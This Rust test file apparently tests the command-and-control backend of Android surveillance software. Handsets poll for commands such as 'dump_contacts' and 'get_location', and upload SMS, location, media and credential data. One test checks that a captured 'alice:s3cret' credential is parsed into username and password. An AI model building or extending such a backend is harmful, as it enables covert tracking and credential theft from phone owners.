use proptest::prelude::*;
use serde_json::json;
use std::collections::HashSet;
use std::sync::Arc;
use tether_devkit::{TestHarness, UploadBuilder};
use tether_kernel::ingest::UploadHeaders;
use tether_kernel::models::{DeviceStatus, UNKNOWN_DEVICE};

#[tokio::test]
async fn enqueue_then_poll_delivers_once() {
    let h = TestHarness::new().unwrap();
    h.register("d1").await.unwrap();
    let cmd = h.enqueue("d1", json!({"command": "set_interval", "interval": 30})).await.unwrap();

    let first = h.poll("d1").await.unwrap();
    assert_eq!(first.len(), 1);
    assert_eq!(first[0].id, cmd.id);
    assert_eq!(first[0].params["interval"], json!(30));

    assert!(h.poll("d1").await.unwrap().is_empty());
}

#[tokio::test]
async fn registration_never_wipes_earlier_commands() {
    let h = TestHarness::new().unwrap();
    h.enqueue("late", json!("collect_info")).await.unwrap();
    h.register("late").await.unwrap();
    assert_eq!(h.poll("late").await.unwrap().len(), 1);

    // Re-registration après enqueue : la file est conservée
    h.enqueue("late", json!("get_location")).await.unwrap();
    h.register("late").await.unwrap();
    assert_eq!(h.poll("late").await.unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_enqueue_and_poll_lose_nothing() {
    let h = Arc::new(TestHarness::new().unwrap());
    h.register("busy").await.unwrap();

    let mut producers = Vec::new();
    for i in 0..50 {
        let h = h.clone();
        producers.push(tokio::spawn(async move { h.enqueue("busy", json!(format!("c{i}"))).await.unwrap().id }));
    }
    let mut pollers = Vec::new();
    for _ in 0..10 {
        let h = h.clone();
        pollers.push(tokio::spawn(async move {
            h.poll("busy").await.unwrap().into_iter().map(|c| c.id).collect::<Vec<_>>()
        }));
    }

    let mut queued = HashSet::new();
    for p in producers {
        queued.insert(p.await.unwrap());
    }
    let mut delivered = Vec::new();
    for p in pollers {
        delivered.extend(p.await.unwrap());
    }
    delivered.extend(h.poll("busy").await.unwrap().into_iter().map(|c| c.id));

    let unique: HashSet<_> = delivered.iter().cloned().collect();
    assert_eq!(delivered.len(), unique.len(), "a command was delivered twice");
    assert_eq!(unique, queued);
}

#[tokio::test]
async fn push_carries_command_and_failure_is_not_fatal() {
    let h = TestHarness::new().unwrap();
    h.engine.registry.set_push_token("p1", "token-p1").await.unwrap();

    let cmd = h.enqueue("p1", json!({"command": "ring", "duration": 10})).await.unwrap();
    let pushed = h.push.last_for("token-p1").unwrap();
    assert_eq!(pushed.data["command_id"], json!(cmd.id));
    assert_eq!(pushed.data["command"], json!("ring"));
    assert_eq!(pushed.data["duration"], json!(10));

    h.push.clear();
    h.push.set_failing(true);
    let second = h.enqueue("p1", json!("ring")).await.unwrap();
    assert!(h.push.sent().is_empty());
    let polled = h.poll("p1").await.unwrap();
    assert!(polled.iter().any(|c| c.id == second.id));
}

#[tokio::test]
async fn presence_follows_offline_threshold() {
    let h = TestHarness::new().unwrap();
    h.register("p").await.unwrap();

    h.advance_secs(900);
    assert_eq!(h.engine.registry.get("p").await.unwrap().status, DeviceStatus::Active);
    h.advance_secs(1);
    assert_eq!(h.engine.registry.get("p").await.unwrap().status, DeviceStatus::Offline);

    h.poll("p").await.unwrap();
    let device = h.engine.registry.get("p").await.unwrap();
    assert_eq!(device.status, DeviceStatus::Active);
    assert_eq!(device.statistics.last_interval, 901.0);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn running_average_is_mean_of_intervals(intervals in prop::collection::vec(1i64..5_000, 1..20)) {
        let rt = tokio::runtime::Runtime::new().unwrap();
        rt.block_on(async {
            let h = TestHarness::new().unwrap();
            h.register("avg").await.unwrap();
            for dt in &intervals {
                h.advance_secs(*dt);
                h.engine.registry.touch("avg").await.unwrap();
            }

            let stats = h.engine.registry.get("avg").await.unwrap().statistics;
            let mean = intervals.iter().sum::<i64>() as f64 / intervals.len() as f64;
            prop_assert_eq!(stats.check_ins, intervals.len() as u64);
            prop_assert!((stats.avg_interval - mean).abs() < 1e-6);
            prop_assert_eq!(stats.last_interval, *intervals.last().unwrap() as f64);
            Ok(())
        })?;
    }
}

#[tokio::test]
async fn compressed_nested_upload_resolves_real_device() {
    let h = TestHarness::new().unwrap();
    let doc = UploadBuilder::nested(
        UNKNOWN_DEVICE,
        "sms",
        json!({"device_id": "handset-3", "android_version": "14", "device_model": "A54"}),
    );
    let outcome = h.upload(&UploadBuilder::zlib(&doc).unwrap(), UploadHeaders::default()).await.unwrap();
    assert_eq!(outcome.device_id, "handset-3");

    let devices = h.engine.console.list_devices().await.unwrap();
    assert_eq!(devices.len(), 1);
    assert_eq!(devices[0].device_info.model, "A54");
    assert_eq!(devices[0].device_info.android_version, "14");
    assert_eq!(devices[0].device_info.manufacturer, "Unknown");
}

#[tokio::test]
async fn location_alias_lists_every_location_type() {
    let h = TestHarness::new().unwrap();
    h.upload_json(&UploadBuilder::location("d1", 1.0, 2.0)).await.unwrap();
    h.advance_secs(5);
    h.upload_json(&json!({"device_id": "d1", "type": "gps", "data": "{\"latitude\": 5, \"longitude\": 6}"}))
        .await
        .unwrap();
    h.upload_json(&UploadBuilder::raw("d1", "sms", "hello")).await.unwrap();

    let rows = h.engine.console.list_telemetry("location").await.unwrap();
    assert_eq!(rows.len(), 2);
    // plus récent d'abord
    assert_eq!(rows[0].data_type, "gps");
    assert_eq!(rows[0].data.as_ref().unwrap()["map_url"], json!("https://maps.google.com/?q=5,6"));
    assert_eq!(rows[1].data.as_ref().unwrap()["map_url"], json!("https://maps.google.com/?q=1.0,2.0"));

    assert_eq!(h.engine.console.list_telemetry("all").await.unwrap().len(), 3);
    assert_eq!(h.engine.console.list_telemetry("SMS").await.unwrap().len(), 1);
}

#[tokio::test]
async fn credentials_and_media_are_enriched() {
    let h = TestHarness::new().unwrap();
    h.upload_json(&UploadBuilder::raw("d2", "credentials", "alice:s3cret")).await.unwrap();
    h.upload_json(&UploadBuilder::media("d2", &["a.jpg", "b.mp4", "c.png"])).await.unwrap();

    let creds = h.engine.console.list_telemetry("credentials").await.unwrap();
    let data = creds[0].data.as_ref().unwrap();
    assert_eq!(data["username"], json!("alice"));
    assert_eq!(data["password"], json!("s3cret"));

    let media = h.engine.console.list_telemetry("media_metadata").await.unwrap();
    assert_eq!(media[0].data.as_ref().unwrap()["files_count"], json!(3));
}

#[tokio::test]
async fn unparsable_stored_payload_is_reported_not_dropped() {
    let h = TestHarness::new().unwrap();
    let legacy = json!({
        "timestamp": "2024-01-01T10:00:00",
        "metadata": {"source": "android_device", "dataType": "notes", "deviceId": "old"},
        "payload": "{broken"
    });
    tether_kernel::RecordStore::set(h.store.as_ref(), "telemetry/old/notes/-legacy", legacy).await.unwrap();

    let rows = h.engine.console.list_telemetry("notes").await.unwrap();
    assert_eq!(rows.len(), 1);
    assert!(rows[0].error.is_some());
    assert_eq!(rows[0].raw_data.as_deref(), Some("{broken"));
    assert!(rows[0].timestamp.is_some());
}

#[tokio::test]
async fn ack_results_are_listed_newest_first() {
    let h = TestHarness::new().unwrap();
    h.register("r1").await.unwrap();
    let a = h.enqueue("r1", json!("get_location")).await.unwrap();
    let b = h.enqueue("r1", json!("dump_contacts")).await.unwrap();
    h.poll("r1").await.unwrap();

    h.advance_secs(20);
    h.engine
        .acknowledge("r1", &a.id, Some(json!({"latitude": 7.25, "longitude": 8.5})))
        .await
        .unwrap();

    let results = h.engine.console.command_results("r1").await.unwrap();
    assert_eq!(results[0].command_id, a.id);
    assert_eq!(results[0].result["map_url"], json!("https://maps.google.com/?q=7.25,8.5"));
    assert_eq!(results[1].command_id, b.id);
    assert_eq!(results[1].result["details"], json!("No result data available"));
}
